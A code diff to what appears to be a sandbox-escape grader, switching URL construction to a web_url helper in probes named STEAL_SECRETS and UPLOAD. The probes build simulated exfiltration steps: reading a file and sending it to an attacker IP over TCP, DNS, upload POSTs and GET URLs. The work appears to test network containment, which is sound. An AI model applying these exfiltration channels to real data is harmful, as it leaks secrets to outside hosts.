@@ -22,7 +22,7 @@ from grader.core.evidence import (
     net_blocked,
     timed_out,
 )
-from grader.core.probes.record import OrderContext, Prediction, Probe, Step, allowed_names
+from grader.core.probes.record import OrderContext, Prediction, Probe, Step, allowed_names, web_url
 from grader.core.world import World
 
 __all__ = ["STEAL_SECRETS", "UPLOAD"]
@@ -46,7 +46,7 @@ def _upload_orders(p: Probe, ctx: OrderContext) -> list[Step]:
     m = ctx.markers
     hosts = list(dict.fromkeys([*ctx.hosts, *allowed_names(ctx, "up"), m.fresh_host("up")]))
     # once more after a timeout: an upload lost to a busy machine proves nothing either way
-    return [{"op": "http", "method": "POST", "url": f"https://{h}{m.upload_path}", "body": m.upload_body, "retries": 1}
+    return [{"op": "http", "method": "POST", "url": web_url(ctx, h, m.upload_path), "body": m.upload_body, "retries": 1}
             for h in hosts]
 
 
@@ -87,9 +87,9 @@ def _steal_orders(p: Probe, ctx: OrderContext) -> list[Step]:
             "op": "steal", "path": ctx.rebase(path),
             "tcp": {"host": ctx.attacker_ip, "port": ctx.tcp_port, "prefix": tag + "\n"},
             "dns_suffix": m.steal_dns_suffix(label),
-            "urls": [f"https://{h}/upload/{tag}" for h in dict.fromkeys([*ctx.hosts, *allowed_names(ctx, label), m.fresh_host(label)])],
+            "urls": [web_url(ctx, h, f"/upload/{tag}") for h in dict.fromkeys([*ctx.hosts, *allowed_names(ctx, label), m.fresh_host(label)])],
             # a download whose URL ends in what was read: where the attacker reads request URLs, that is a way out
-            "get_urls": [f"https://{h}/npm/{tag}/" for h in ctx.urls],
+            "get_urls": [web_url(ctx, h, f"/npm/{tag}/") for h in ctx.urls],
         })
     return steps
 
